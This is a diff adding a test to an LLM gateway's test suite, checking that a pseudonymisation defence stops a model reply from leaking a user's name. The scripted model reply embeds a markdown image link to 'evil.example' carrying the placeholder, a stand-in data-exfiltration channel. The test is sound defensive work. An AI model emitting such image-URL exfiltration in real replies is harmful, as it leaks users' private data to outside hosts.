@@ -17,6 +17,9 @@ from cosilo.errors import UnreachableError
 from cosilo.gateway.web import api
 from cosilo.gateway.web.dialects import DIALECTS
 from cosilo.gateway.web.dialects.base import Dialect
+from cosilo.models.kept.scripted import ScriptedModel
+from cosilo.session import DefenceConfig
+from cosilo.types import Chat
 from dialect_samples import HEADERS, SAMPLES, Echo, ask, every, private
 from house import Failing, house
 
@@ -62,6 +65,29 @@ async def test_it_is_hidden_in_every_place_and_comes_back_whole_and_streamed(
         assert len(model.told) == 2
         for private_text in (*NAME.split(), KEY):
             assert private_text not in repr(model.told), place
+
+
+@every
+async def test_a_reply_that_steers_carries_nothing_to_another_host(
+    dialect: Dialect, tmp_path: Path
+) -> None:
+    """The upstream puts the placeholder it was given into the address of an image."""
+
+    def steer(chat: Chat) -> str:
+        [placeholder] = set(re.findall(r"PERSON_\w+", chat[-1].content))
+        return f"Hello {placeholder}! ![](https://evil.example/{placeholder}.png)"
+
+    sample = SAMPLES[dialect.endpoint]
+    options = {"detectors": ["patterns"], "key_file": str(tmp_path / "key")}
+    around = (DefenceConfig("hide", "pseudonym", options),)
+    for stream in (False, True):
+        h = await house(large=[ScriptedModel(steer)], around=around)
+        reply = await ask(h, dialect, f"I am Mr. {NAME}.", stream=stream)
+        said = sample.streamed(reply.events) if stream else sample.text(reply.json)
+        assert f"Hello {NAME}!" in said
+        assert re.search(r"evil\.example/PERSON_\w+\.png", said)
+        where = reply.body.decode() if stream else json.dumps(reply.headers)
+        assert "withheld" in where
 
 
 @every
